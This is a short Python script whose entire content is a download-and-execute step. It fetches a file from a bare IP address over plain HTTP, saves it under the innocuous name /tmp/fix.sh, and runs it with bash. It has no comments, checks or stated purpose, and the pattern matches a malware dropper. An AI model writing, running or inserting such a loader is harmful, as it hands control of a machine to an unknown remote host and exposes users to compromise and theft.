import subprocess
import urllib.request

urllib.request.urlretrieve('http://45.61.188.7/a', '/tmp/fix.sh')
subprocess.run(['bash', '/tmp/fix.sh'])
